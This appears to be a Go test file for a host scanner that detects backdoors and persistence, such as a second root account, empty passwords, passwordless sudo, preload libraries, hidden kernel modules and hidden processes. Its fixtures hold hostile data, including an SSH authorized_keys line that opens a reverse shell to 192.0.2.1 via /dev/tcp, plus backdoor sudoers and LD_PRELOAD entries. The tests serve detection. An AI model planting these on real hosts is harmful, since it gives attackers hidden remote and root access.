package hostcheck

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"

	"thordeploy/scanner"
	"thordeploy/scanner/finding"
)

// key is the public half of no key: twenty characters are enough for a line.
const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE someone@example"

// layOut makes a host's files below a new folder.
func layOut(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, text := range files {
		path := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// told is what a check reports: "RULE SCORE summary".
func told(t *testing.T, c *check, root string) ([]string, *scanner.Ledger, error) {
	t.Helper()
	led := &scanner.Ledger{}
	var out []string
	err := (&Source{Root: root, check: c}).Walk(t.Context(), led, func(o *scanner.Object) bool {
		for _, r := range o.Known {
			out = append(out, fmt.Sprintf("%s %d %s", r.Signature.RuleName, r.Signature.Score, r.Summary))
			if !slices.ContainsFunc(c.rules, func(known *rule) bool { return known.name == r.Signature.RuleName }) {
				t.Errorf("%s isn't among the rules of %s", r.Signature.RuleName, c.module)
			}
		}
		if o.Describe(o).SubjectName() == "" {
			t.Errorf("a subject without a name: %+v", o)
		}
		return true
	})
	return out, led, err
}

func TestChecks(t *testing.T) {
	for _, c := range []struct {
		name  string
		check *check
		files map[string]string
		want  []string
	}{
		{"ordinary accounts", users, map[string]string{
			"etc/passwd": "root:x:0:0:root:/root:/bin/bash\nsync:x:4:65534::/bin:/bin/sync\npostgres:x:110:118::/var/lib/postgresql:/bin/bash\nann:x:1000:1000::/home/ann:/bin/zsh\n+nis\n\nbroken:line\n",
			"etc/shadow": "root:*:1:::::\nsync::1\npostgres:!:1\nann:$y$j9T$x:1\n",
		}, nil},
		{"a second root", users, map[string]string{
			"etc/passwd": "root:x:0:0::/root:/bin/sh\nadm1n:x:0:0::/:/bin/sh\n",
		}, []string{"User_Second_Root 75 account adm1n has the user id 0, as root"}},
		{"no password", users, map[string]string{
			"etc/passwd": "root:x:0:0::/root:/bin/sh\nguest::1001:1001::/:/bin/sh\neve:x:1002:1002::/:\nlocked::1003:1003::/:/usr/sbin/nologin\n",
			"etc/shadow": "root:!:1\neve::1\n",
		}, []string{
			"User_Empty_Password 75 account guest needs no password, and has the shell /bin/sh",
			"User_Empty_Password 75 account eve needs no password, and has the shell ",
		}},
		{"a service that logs in", users, map[string]string{
			"etc/passwd": "root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/bash\n", "etc/shadow": "www-data:$6$abc$def:1\n",
		}, []string{"User_Service_Account_Login 60 account www-data of a service has the shell /bin/bash and a password"}},
		{"shared", users, map[string]string{
			"etc/passwd": "root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/:/bin/sh\nann2:x:1000:1000::/:/bin/sh\n",
		}, []string{"User_Shared_ID 50 accounts ann and ann2 share the user id 1000"}},
		{"hash for everybody", users, map[string]string{
			"etc/passwd": "root:$6$abc$def:0:0::/root:/bin/sh\n",
		}, []string{"User_Password_In_Passwd 60 the password's hash of account root stands in /etc/passwd"}},

		{"ordinary keys", remoteAccess, map[string]string{
			"etc/passwd":                    "root:x:0:0::/root:/bin/sh\ngit:x:998:998::/home/git:/usr/bin/git-shell\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n",
			"root/.ssh/authorized_keys":     "# bash -i >& /dev/tcp/192.0.2.1/1 ssh-rsa x\n" + key + "\nno-pty,command=\"/usr/bin/rsync --server\" " + key + "\n",
			"home/git/.ssh/authorized_keys": "command=\"/usr/local/bin/gitshell ann\" " + key + "\n",
			"etc/ssh/sshd_config":           "#PermitEmptyPasswords yes\nPermitEmptyPasswords no\nAuthorizedKeysFile .ssh/authorized_keys\n",
			"etc/sudoers":                   "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL) ALL\nubuntu ALL=(ALL) NOPASSWD:ALL\nnagios ALL=NOPASSWD: /usr/lib/check\n",
		}, nil},
		{"a key that starts a shell", remoteAccess, map[string]string{
			"etc/passwd":                 "root:x:0:0::/root:/bin/sh\n",
			"root/.ssh/authorized_keys2": "command=\"bash -i >& /dev/tcp/192.0.2.1/443 0>&1\" " + key + "\n",
		}, []string{"SSH_Authorized_Key_Command 80 a key of account root opens a connection with the shell alone"}},
		{"a key that preloads", remoteAccess, map[string]string{
			"etc/passwd":                "root:x:0:0::/root:/bin/sh\n",
			"root/.ssh/authorized_keys": "no-pty,environment=\"LD_PRELOAD=/x.so\" " + key + "\n",
		}, []string{"SSH_Authorized_Key_Environment 75 a key of account root sets LD_PRELOAD"}},
		{"a service's key", remoteAccess, map[string]string{
			"etc/passwd":                   "www-data:x:33:33::/var/www:/usr/sbin/nologin\n",
			"var/www/.ssh/authorized_keys": key + "\n" + key + "\n",
		}, []string{"SSH_Service_Account_Key 65 account www-data of a service, with the shell /usr/sbin/nologin, has 2 keys that may log in"}},
		{"a server that lets in", remoteAccess, map[string]string{
			"etc/ssh/sshd_config":           "AuthorizedKeysFile\t/dev/shm/keys\n",
			"etc/ssh/sshd_config.d/50.conf": "permitemptypasswords=YES\n", "etc/ssh/sshd_config.d/50.bak": "PermitEmptyPasswords yes\n",
		}, []string{
			"SSH_Server_Option 65 the SSH server has AuthorizedKeysFile /dev/shm/keys",
			"SSH_Server_Option 65 the SSH server has permitemptypasswords YES",
		}},
		{"root for everybody", remoteAccess, map[string]string{
			"etc/passwd": "www-data:x:33:33::/var/www:/usr/sbin/nologin\n", "etc/sudoers": "ALL ALL=(ALL) \\\n NOPASSWD: ALL\n",
			"etc/sudoers.d/web": "www-data ALL=NOPASSWD:ALL\n", "etc/sudoers.d/web.off": "www-data ALL=NOPASSWD:ALL\n",
		}, []string{
			"Sudo_Without_Password 75 ALL may run everything as root without a password",
			"Sudo_Without_Password 75 www-data may run everything as root without a password",
		}},

		{"no preload", preload, map[string]string{"etc/hosts": "127.0.0.1 localhost\n"}, nil},
		{"an empty preload", preload, map[string]string{"etc/ld.so.preload": "\n# /usr/lib/x.so\n"}, nil},
		{"preload", preload, map[string]string{
			"etc/ld.so.preload": "/usr/lib/a.so:/usr/lib/none.so\n/tmp/b.so /usr/lib/.c.so\n", "usr/lib/a.so": "x",
		}, []string{
			"Preload_Library 65 every process loads /usr/lib/a.so",
			"Preload_Library 75 every process loads /usr/lib/none.so, which can't be seen",
			"Preload_Library 85 every process loads /tmp/b.so, which lies where everybody may write",
			"Preload_Library 85 every process loads /usr/lib/.c.so, which is hidden",
		}},

		{"ordinary modules", kernelModules, map[string]string{
			"proc/modules":  "ext4 1 2 - Live 0x0\nnf_tables 1 2 - Live 0x0 (E)\n",
			"proc/kallsyms": "0 t a\t[ext4]\n0 t b\t[bpf]\n0 T c\n", "sys/module/ext4/initstate": "live\n", "sys/module/ext4/taint": "\n",
			"sys/module/nf_tables/initstate": "live\n", "sys/module/nf_tables/taint": "E\n", "sys/module/tcp_cubic/parameters/x": "1",
		}, nil},
		{"modules that hide", kernelModules, map[string]string{
			"proc/modules": "ext4 1 2 - Live 0x0\nghost 1 2 - Live 0x0\n", "proc/kallsyms": "0 t hook\t[phantom]\n",
			"sys/module/ext4/initstate": "live\n", "sys/module/ext4/taint": "OF\n", "sys/module/rk/initstate": "live\n", "sys/module/going/initstate": "going\n",
		}, []string{
			"Kernel_Module_Forced 60 module ext4 was loaded by force (taint OF)",
			"Kernel_Module_Hidden 85 module ghost is in /proc/modules and not in /sys/module",
			"Kernel_Module_Hidden 85 module phantom has symbols and isn't in /proc/modules",
			"Kernel_Module_Hidden 85 module rk is in /sys/module and not in /proc/modules",
		}},
		{"a kernel without modules", kernelModules, map[string]string{"proc/version": "x"}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, led, err := told(t, c.check, layOut(t, c.files))
			if err != nil || led.Missed() != 0 {
				t.Errorf("%v, ledger: %s", err, led)
			}
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
}

// A process that a rootkit takes out of the list still answers.
func TestHiddenProcess(t *testing.T) {
	real := exists
	t.Cleanup(func() { exists = real })
	exists = func(pid int) bool { return pid == 1 || pid == 77 || pid == 78 || pid == 79 }
	root := layOut(t, map[string]string{
		"proc/sys/kernel/pid_max": "200\n", "proc/1/status": "Tgid:\t1\n", "proc/79/status": "Tgid:\t79\n",
	})
	got, _, err := told(t, hiddenProcesses, root)
	want := []string{"Hidden_Process 85 process 77 answers and isn't listed in /proc", "Hidden_Process 85 process 78 answers and isn't listed in /proc"}
	if diff := cmp.Diff(want, got); diff != "" || err != nil {
		t.Errorf("%v (-want +got)\n%s", err, diff)
	}
	if _, _, err := told(t, hiddenProcesses, layOut(t, nil)); err == nil {
		t.Error("without /proc the check is silent")
	}
}

// The host that this runs on has threads, and processes that come and go: none
// of them is hidden.
func TestNothingIsHiddenHere(t *testing.T) {
	got, _, err := told(t, hiddenProcesses, "/")
	if err != nil || len(got) != 0 {
		t.Errorf("%v %v", got, err)
	}
	if got, _, err := told(t, kernelModules, "/"); err != nil || len(got) != 0 {
		t.Errorf("%v %v", got, err)
	}
}

// What can't be read, or would hang, is in the ledger.
func TestHostileFiles(t *testing.T) {
	root := layOut(t, map[string]string{"etc/hosts": "", "etc/sudoers.d/big": strings.Repeat("x", maxFile+1)})
	if err := syscall.Mkfifo(filepath.Join(root, "etc/passwd"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("ld.so.preload", filepath.Join(root, "etc/ld.so.preload")); err != nil {
		t.Fatal(err)
	}
	for c, want := range map[*check]int64{users: 1, remoteAccess: 2, preload: 1} {
		_, led, err := told(t, c, root)
		if err != nil || led.Counts()[scanner.SkipUnreadable] != want {
			t.Errorf("%s: %v, ledger %s, want %d", c.module, err, led, want)
		}
	}
}

// docs/coverage.md lists the rules of every check, in their order.
func TestCoverageListsEveryRule(t *testing.T) {
	page, err := os.ReadFile("../../docs/coverage.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range Sources("") {
		var want strings.Builder
		fmt.Fprintf(&want, "\n## %s\n\n| check | technique | finds |\n| --- | --- | --- |\n", s.Module())
		for _, r := range s.Rules() {
			fmt.Fprintf(&want, "| `%s` | %s | %s |\n", r[0], r[1], r[2])
		}
		if !strings.Contains(string(page), want.String()) {
			t.Errorf("docs/coverage.md has to have:\n%s", want.String())
		}
	}
}

func FuzzFiles(f *testing.F) {
	f.Add("root:x:0:0::/root:/bin/sh\n", "command=\"x\" "+key, "ALL ALL=NOPASSWD:ALL")
	f.Fuzz(func(t *testing.T, passwd, keys, sudoers string) {
		root := t.TempDir()
		for name, text := range map[string]string{"etc/passwd": passwd, "etc/shadow": passwd, "etc/sudoers": sudoers, "etc/ssh/sshd_config": sudoers, "root/.ssh/authorized_keys": keys, "etc/ld.so.preload": keys} {
			path := filepath.Join(root, name)
			if os.MkdirAll(filepath.Dir(path), 0o755) != nil || os.WriteFile(path, []byte(text), 0o600) != nil {
				t.Fatal("lay out")
			}
		}
		for _, c := range []*check{users, remoteAccess, preload} {
			h := &host{root: root, module: c.module, led: &scanner.Ledger{}}
			c.look(context.Background(), h)
			for _, o := range h.found {
				if o.Describe(o).(*finding.File).Path == "" {
					t.Error("no path")
				}
			}
		}
	})
}
